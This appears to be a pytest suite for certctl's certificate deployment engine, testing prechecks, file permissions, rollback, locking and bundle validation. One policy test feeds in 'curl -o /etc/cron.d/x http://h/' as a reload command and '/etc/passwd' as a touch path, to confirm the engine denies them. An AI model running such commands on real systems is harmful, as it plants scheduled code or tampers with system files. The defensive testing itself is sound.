"""The transaction with a small third-party target and a real file system (spec 07 §9)."""

from __future__ import annotations

import json
import os
import stat
import threading
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any, ClassVar

import pytest
import structlog
from typing_extensions import override

from certctl_core.contracts.options import Command, ConfigInvalid, option
from certctl_core.contracts.targets import (
    Bundle,
    BundleChainInvalid,
    BundleMalformed,
    BundleNamesMissing,
    Check,
    FileTarget,
    PairConfig,
    PairMismatch,
    Plan,
    TargetContext,
)
from certctl_core.deploy import (
    DeployEngine,
    DeployReport,
    KeyMissing,
    Outcome,
    Policy,
    Stage,
    VerificationStatus,
)
from certctl_core.deploy.files import LocalFiles
from certctl_core.kernel.clock import SystemClock
from certctl_core.testing.target import TargetLab
from tests.machine import PATIENCE_SECONDS


class WidgetConfig(PairConfig):
    reload_command: Command = option(title="Reload")
    touch: str = option("", title="Touch")
    healthy: bool = option(True, title="Healthy")


class Widget(FileTarget):
    kind = "widget"
    title = "Widget"
    api_version = 1
    Config = WidgetConfig
    commands: ClassVar[tuple[Command, ...]] = ()

    def __init__(self, config: WidgetConfig, ctx: TargetContext) -> None:
        super().__init__(config, ctx)
        self.config: WidgetConfig = config

    @override
    def plan(self, bundle: Bundle) -> Plan:
        c = self.config
        return Plan(
            files=(*c.cert(bundle, default=bundle.fullchain), *c.key(bundle)),
            reload=(c.reload_command,),
            touch=(c.touch,) if c.touch else (),
        )

    @override
    def check(self) -> list[Check]:
        return [Check(name="healthy", ok=self.config.healthy, detail="it is ill")]


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[TargetLab]:
    lab = TargetLab(tmp_path)
    yield lab
    lab.close()


@pytest.fixture
def bundle(lab: TargetLab) -> Bundle:
    return lab.authority.issue("v1")


def _config(lab: TargetLab, **changes: object) -> dict[str, object]:
    return {
        "cert_path": lab.path("cert.pem"),
        "key_path": lab.path("key.pem"),
        "reload_command": lab.reload_command,
        **changes,
    }


def _deploy(
    lab: TargetLab,
    bundle: Bundle,
    *,
    engine: DeployEngine | None = None,
    target: type[FileTarget] = Widget,
    target_id: str = "tgt-1",
    options: dict[str, Any] | None = None,
    **config: object,
) -> DeployReport:
    engine = engine or lab.engine()
    return engine.deploy(
        engine.build(target, _config(lab, **config), target_id="tgt-1"),
        bundle,
        version_id=bundle.version_id,
        target_id=target_id,
        **(options or {}),
    )


def _code(report: DeployReport) -> str:
    assert report.failure is not None, report
    return report.failure.code


@pytest.mark.spec("07/JOB-07")
def test_the_report_has_the_wire_form(lab: TargetLab, bundle: Bundle) -> None:
    report = _deploy(lab, bundle)
    wire = json.loads(json.dumps(report.to_json()))

    assert report.verification.status is VerificationStatus.SKIPPED
    assert set(wire) == {
        "outcome",
        "duration_ms",
        "stages",
        "address",
        "fingerprint_sha256",
        "verification",
        "rollback",
        "details",
    }
    assert wire["outcome"] == "deployed"
    assert wire["fingerprint_sha256"] == bundle.fingerprint
    assert wire["address"] == lab.path("cert.pem")
    assert [stage["name"] for stage in wire["stages"]] == [stage.value for stage in Stage]
    assert set(wire["stages"][0]) == {"name", "ok", "ms", "detail"}
    assert wire["rollback"] == {"attempted": False, "ok": False, "detail": ""}
    assert wire["details"]["serial"] == bundle.serial
    assert wire["details"]["not_after"].endswith("Z")


@pytest.mark.spec("07/JOB-08")
@pytest.mark.parametrize("outcome", Outcome)
def test_outcomes_are_the_words_of_the_specification(outcome: Outcome) -> None:
    assert outcome.value in {
        "deployed",
        "unchanged",
        "failed_precheck",
        "failed_validate",
        "rolled_back",
        "rollback_failed",
    }


class TestPrecheck:
    def test_an_expired_certificate_is_refused(self, lab: TargetLab) -> None:
        report = _deploy(lab, lab.authority.issue("v1", days=-1))

        assert (report.outcome, _code(report)) == (Outcome.FAILED_PRECHECK, "bundle_expired")

    @pytest.mark.spec("07/CMD-04")
    @pytest.mark.parametrize(
        "config",
        [
            {"reload_command": "curl -o /etc/cron.d/x http://h/"},
            {"cert_path": "/nowhere/cert.pem"},
            {"touch": "/etc/passwd"},
        ],
        ids=["command", "path", "touch"],
    )
    def test_the_policy_of_the_host_decides(
        self, lab: TargetLab, bundle: Bundle, config: dict[str, Any]
    ) -> None:
        report = _deploy(lab, bundle, **config)

        assert (report.outcome, _code(report)) == (Outcome.FAILED_PRECHECK, "policy_denied")
        assert list(lab.files.iterdir()) == []

    def test_a_link_out_of_the_allowed_places_is_refused(
        self, lab: TargetLab, bundle: Bundle
    ) -> None:
        (lab.directory / "outside").mkdir()
        (lab.files / "out").symlink_to(lab.directory / "outside")

        assert _code(_deploy(lab, bundle, cert_path=lab.path("out/c.pem"))) == "policy_denied"

    @pytest.mark.spec("07/DEP-07")
    def test_a_directory_must_exist_and_be_closed_to_others(
        self, lab: TargetLab, bundle: Bundle
    ) -> None:
        (lab.files / "open").mkdir()
        (lab.files / "open").chmod(0o777)
        (lab.files / "sticky").mkdir()
        (lab.files / "sticky").chmod(0o1777)

        assert _code(_deploy(lab, bundle, cert_path=lab.path("no/c.pem"))) == "config_invalid"
        assert _code(_deploy(lab, bundle, cert_path=lab.path("open/c.pem"))) == "config_invalid"
        assert _deploy(lab, bundle, cert_path=lab.path("sticky/c.pem")).outcome.ok

    def test_two_paths_to_one_file_are_refused(self, lab: TargetLab, bundle: Bundle) -> None:
        (lab.files / "key.pem").symlink_to("cert.pem")

        assert _code(_deploy(lab, bundle)) == "config_invalid"

    def test_something_other_than_a_file_is_refused(self, lab: TargetLab, bundle: Bundle) -> None:
        os.mkfifo(lab.path("cert.pem"))

        assert _code(_deploy(lab, bundle)) == "config_invalid"

    def test_a_check_of_the_target_stops(self, lab: TargetLab, bundle: Bundle) -> None:
        assert _code(_deploy(lab, bundle, healthy=False)) == "check_failed"

    @pytest.mark.spec("07/MOD-02")
    @pytest.mark.parametrize("target_id", ["..", ".", "a/b", "", "x" * 129, "a\n"])
    def test_an_id_that_is_no_file_name_is_refused(
        self, lab: TargetLab, bundle: Bundle, target_id: str
    ) -> None:
        assert _code(_deploy(lab, bundle, target_id=target_id)) == "id_refused"

    @pytest.mark.spec("07/DEP-12")
    def test_the_version_must_be_that_of_the_job(self, lab: TargetLab, bundle: Bundle) -> None:
        engine = lab.engine()
        target = engine.build(Widget, _config(lab), target_id="tgt-1")
        with pytest.raises(ValueError, match="another version"):
            engine.deploy(target, bundle, version_id="v9", target_id="tgt-1")


class TestFiles:
    def test_directories_are_created_when_asked_for(self, lab: TargetLab, bundle: Bundle) -> None:
        path = lab.path("a/b/cert.pem")
        report = _deploy(lab, bundle, cert_path=path, create_parents=True)

        assert report.outcome is Outcome.DEPLOYED, report
        assert stat.S_IMODE(Path(path).parent.stat().st_mode) == 0o755

    def test_created_directories_go_with_a_rollback(self, lab: TargetLab, bundle: Bundle) -> None:
        lab.fail("reload", times=1)
        report = _deploy(lab, bundle, cert_path=lab.path("a/b/cert.pem"), create_parents=True)

        assert report.outcome is Outcome.ROLLED_BACK, report
        assert list(lab.files.iterdir()) == []

    @pytest.mark.spec("07/DEP-02")
    def test_configured_rights_win(self, lab: TargetLab, bundle: Bundle) -> None:
        if os.geteuid() != 0:
            pytest.skip("only root can give a file away")
        report = _deploy(
            lab, bundle, cert_file_mode="0640", cert_file_owner="nobody", key_file_group="12345"
        )
        cert, key = Path(lab.path("cert.pem")).stat(), Path(lab.path("key.pem")).stat()

        assert report.outcome is Outcome.DEPLOYED, report
        assert (stat.S_IMODE(cert.st_mode), cert.st_uid, cert.st_gid) == (0o640, 65534, 0)
        assert (stat.S_IMODE(key.st_mode), key.st_uid, key.st_gid) == (0o600, 0, 12345)
        changed = _deploy(lab, bundle, cert_file_mode="0644")
        assert changed.outcome is Outcome.DEPLOYED
        assert Path(lab.path("cert.pem")).stat().st_uid == 65534

    def test_an_unknown_user_is_refused(self, lab: TargetLab, bundle: Bundle) -> None:
        report = _deploy(lab, bundle, cert_file_owner="no-such-user")

        assert (report.outcome, _code(report)) == (Outcome.FAILED_PRECHECK, "config_invalid")

    @pytest.mark.spec("07/DEP-03")
    def test_a_key_mode_for_everybody_is_refused_by_the_configuration(
        self, lab: TargetLab, bundle: Bundle
    ) -> None:
        with pytest.raises(ConfigInvalid):
            _deploy(lab, bundle, key_file_mode="0644")

    def test_touched_files_get_a_new_time(self, lab: TargetLab, bundle: Bundle) -> None:
        touched = lab.files / "dynamic.yml"
        touched.write_text("x")
        os.utime(touched, (1, 1))
        _deploy(lab, bundle, touch=str(touched))

        assert touched.stat().st_mtime > 1
        assert touched.read_text() == "x"

    @pytest.mark.spec("07/DEP-16")
    def test_old_leftovers_are_swept_and_young_ones_left(
        self, lab: TargetLab, bundle: Bundle
    ) -> None:
        old = lab.files / f".x.pem.certctl-{'0' * 16}"
        young = lab.files / f".y.pem.certctl-{'1' * 16}"
        foreign = lab.files / ".z.certctl-notes"
        for path in (old, young, foreign):
            path.write_text("")
        for path in (old, foreign):
            os.utime(path, (1, 1))
        _deploy(lab, bundle)

        assert not old.exists()
        assert young.exists()
        assert foreign.exists()

    @pytest.mark.spec("07/DEP-15")
    def test_a_file_that_cannot_be_swapped_in_undoes_the_others(self, lab: TargetLab) -> None:
        class SecondFails(LocalFiles):
            @override
            def commit(self, temporary: str, path: str) -> None:
                if path.endswith("cert.pem") and not self.used:
                    self.used = True
                    raise OSError(28, "No space left on device", path)
                super().commit(temporary, path)

            used = False

        old, new = lab.authority.issue("v1"), lab.authority.issue("v2")
        _deploy(lab, old)
        engine = DeployEngine(
            lab.directory / "state",
            Policy(roots=(str(lab.files),), commands=(tuple(lab.reload_command),)),
            SystemClock(),
            structlog.get_logger("certctl.deploy"),
            files=SecondFails(),
        )
        report = _deploy(lab, new, engine=engine)

        assert (report.outcome, _code(report)) == (Outcome.ROLLED_BACK, "write_failed")
        assert Path(lab.path("key.pem")).read_bytes() == old.key
        assert sorted(path.name for path in lab.files.iterdir()) == ["cert.pem", "key.pem"]


class TestAround:
    @pytest.mark.spec("07/DEP-04")
    def test_a_busy_target_or_file_makes_it_wait_and_give_up(
        self, lab: TargetLab, bundle: Bundle
    ) -> None:
        inside, go_on = threading.Event(), threading.Event()

        def hold(stage: Stage) -> None:
            if stage is Stage.STAGE:
                inside.set()
                go_on.wait(PATIENCE_SECONDS)

        first = threading.Thread(
            target=lambda: _deploy(lab, bundle, options={"on_stage": hold}), name="first"
        )
        first.start()
        assert inside.wait(PATIENCE_SECONDS)
        same_target = _deploy(lab, bundle, cert_path=lab.path("c2"), key_path=lab.path("k2"))
        same_file = _deploy(lab, bundle, target_id="tgt-2")
        recovered = lab.engine().recover()
        go_on.set()
        first.join()

        for report in (same_target, same_file):
            assert (report.outcome, _code(report)) == (Outcome.FAILED_PRECHECK, "busy")
            assert report.retryable
        assert recovered == [], "a running deployment is not recovered"
        assert _deploy(lab, bundle).outcome is Outcome.UNCHANGED

    @pytest.mark.spec("07/AGT-35")
    @pytest.mark.parametrize("at", list(Stage)[:-1])
    def test_an_abort_leaves_the_old_state(self, lab: TargetLab, at: Stage) -> None:
        old, new = lab.authority.issue("v1"), lab.authority.issue("v2")
        _deploy(lab, old)
        seen: list[Stage] = []
        report = _deploy(
            lab,
            new,
            options={"on_stage": seen.append, "should_abort": lambda: seen[-1] is at},
        )

        late = list(Stage).index(at) >= list(Stage).index(Stage.COMMIT)
        assert _code(report) == "cancelled"
        assert (report.outcome is Outcome.ROLLED_BACK) == late
        assert Path(lab.path("cert.pem")).read_text() == old.fullchain
        assert sorted(path.name for path in lab.files.iterdir()) == ["cert.pem", "key.pem"]
        assert lab.engine().recovery_pending == 0

    def test_a_lost_progress_report_changes_nothing(self, lab: TargetLab, bundle: Bundle) -> None:
        def lost(stage: Stage) -> None:
            raise ConnectionError(stage.value)

        assert _deploy(lab, bundle, options={"on_stage": lost}).outcome is Outcome.DEPLOYED

    @pytest.mark.parametrize("late", [False, True])
    def test_a_defect_of_a_target_is_reported_and_undone(
        self, lab: TargetLab, bundle: Bundle, *, late: bool
    ) -> None:
        class Broken(Widget):
            kind = "broken"

            @override
            def plan(self, bundle: Bundle) -> Plan:
                if not late:
                    raise KeyError(bundle.key.decode())
                plan = super().plan(bundle)

                def broken(present: bytes | None) -> bytes:
                    raise ZeroDivisionError

                return replace(plan, files=(replace(plan.files[0], data=broken),))

        report = _deploy(lab, bundle, target=Broken)

        assert (report.outcome, _code(report)) == (Outcome.FAILED_PRECHECK, "deploy_internal")
        assert "PRIVATE" not in json.dumps(report.to_json())
        assert list(lab.files.iterdir()) == []

    def test_a_file_made_from_the_present_one_is_compared_by_meaning(
        self, lab: TargetLab, bundle: Bundle
    ) -> None:
        class Appending(Widget):
            kind = "appending"

            @override
            def plan(self, bundle: Bundle) -> Plan:
                plan = super().plan(bundle)
                store = replace(
                    plan.files[0],
                    data=lambda present: (present or b"") + bundle.leaf.encode(),
                    same=lambda present: present.endswith(bundle.leaf.encode()),
                )
                return replace(plan, files=(store, plan.files[1]))

        first = _deploy(lab, bundle, target=Appending)
        second = _deploy(lab, bundle, target=Appending)
        third = _deploy(lab, lab.authority.issue("v2"), target=Appending)

        assert [r.outcome for r in (first, second, third)] == [
            Outcome.DEPLOYED,
            Outcome.UNCHANGED,
            Outcome.DEPLOYED,
        ]
        assert Path(lab.path("cert.pem")).read_text().count("BEGIN") == 2

    @pytest.mark.spec("07/VER-07")
    def test_warn_keeps_an_unverified_deployment(self, lab: TargetLab, bundle: Bundle) -> None:
        lab.endpoint.serve(lab.authority.issue("v0"))
        report = _deploy(lab, bundle, verify={**lab.verify, "on_failure": "warn"})

        assert report.outcome is Outcome.DEPLOYED
        assert report.verification.status is VerificationStatus.FAILED
        assert any("Not verified" in text for text in report.warnings)

    def test_a_refusal_before_the_transaction_has_the_same_form(self) -> None:
        report = DeployReport.refused(
            KeyMissing(), target_id="tgt-1", kind="widget", certificate_id="c", version_id="v"
        )

        assert (report.outcome, _code(report)) == (Outcome.FAILED_PRECHECK, "key_missing")
        assert not report.retryable

    def test_a_damaged_journal_is_set_aside_and_reported_once(self, lab: TargetLab) -> None:
        journal = lab.directory / "state" / "journal"
        journal.mkdir(parents=True)
        (journal / "tgt-1.json").write_text("{")
        (report,) = lab.engine().recover()

        assert (report.outcome, _code(report)) == (Outcome.ROLLBACK_FAILED, "rollback_failed")
        assert lab.engine().recover() == []

    def test_a_damaged_backup_is_a_failed_rollback_with_steps(self, lab: TargetLab) -> None:
        old, new = lab.authority.issue("v1"), lab.authority.issue("v2")
        _deploy(lab, old)

        def damage(stage: Stage) -> None:
            if stage is Stage.RELOAD:
                lab.fail("reload", times=1)
                for path in (lab.directory / "state" / "backups").rglob("*-v2/0.bin"):
                    path.write_bytes(b"x")

        report = _deploy(lab, new, options={"on_stage": damage})

        assert (report.outcome, _code(report)) == (Outcome.ROLLBACK_FAILED, "rollback_failed")
        assert lab.path("cert.pem") in report.rollback.detail
        assert str(report.details["snapshot"]) in report.rollback.detail


class TestBundle:
    def test_a_root_at_the_end_is_dropped(self, lab: TargetLab, bundle: Bundle) -> None:
        assert bundle.chain.count("BEGIN") == 1
        assert len(bundle.chain_fingerprints) == 1
        assert bundle.fullchain == bundle.leaf + bundle.chain
        assert bundle.combined == bundle.fullchain.encode() + bundle.key
        assert bundle.chain_file == bundle.key + bundle.fullchain.encode()
        assert bundle.names == ("www.example.test",)

    def test_a_foreign_key_is_refused(self, lab: TargetLab, bundle: Bundle) -> None:
        other = lab.authority.issue("v2")
        with pytest.raises(PairMismatch):
            Bundle.build(bundle.leaf, bundle.chain, other.key, "c", "v")

    def test_a_chain_that_does_not_fit_is_refused(self, bundle: Bundle, tmp_path: Path) -> None:
        (tmp_path / "other").mkdir()
        other = TargetLab(tmp_path / "other")
        other.close()
        foreign = other.authority.issue("v1")
        with pytest.raises(BundleChainInvalid):
            Bundle.build(bundle.leaf, foreign.chain, bundle.key, "c", "v")
        with pytest.raises(BundleChainInvalid):
            Bundle.build(bundle.leaf, foreign.chain + bundle.chain, bundle.key, "c", "v")

    @pytest.mark.parametrize("part", ["leaf", "chain", "key", "two_leaves"])
    def test_what_cannot_be_read_is_refused(self, bundle: Bundle, part: str) -> None:
        parts = {"leaf": bundle.leaf, "chain": bundle.chain, "key": bundle.key.decode()}
        if part == "two_leaves":
            parts["leaf"] = bundle.fullchain
        else:
            parts[part] = "nonsense"
        with pytest.raises(BundleMalformed):
            Bundle.build(parts["leaf"], parts["chain"], parts["key"], "c", "v")

    def test_missing_names_are_refused(self, bundle: Bundle) -> None:
        with pytest.raises(BundleNamesMissing):
            Bundle.build(
                bundle.leaf, bundle.chain, bundle.key, "c", "v", names=["mail.example.test"]
            )


def test_lock_wait_ends_when_the_other_is_done(lab: TargetLab, bundle: Bundle) -> None:
    engine = DeployEngine(
        lab.directory / "state",
        Policy(roots=(str(lab.files),), commands=(tuple(lab.reload_command),)),
        SystemClock(),
        structlog.get_logger("certctl.deploy"),
        lock_wait=timedelta(seconds=PATIENCE_SECONDS),
    )
    reports: list[DeployReport] = []
    threads = [
        threading.Thread(target=lambda: reports.append(_deploy(lab, bundle, engine=engine)))
        for _ in range(3)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert sorted(report.outcome for report in reports) == ["deployed", "unchanged", "unchanged"]
    assert lab.runs("reload") == 1
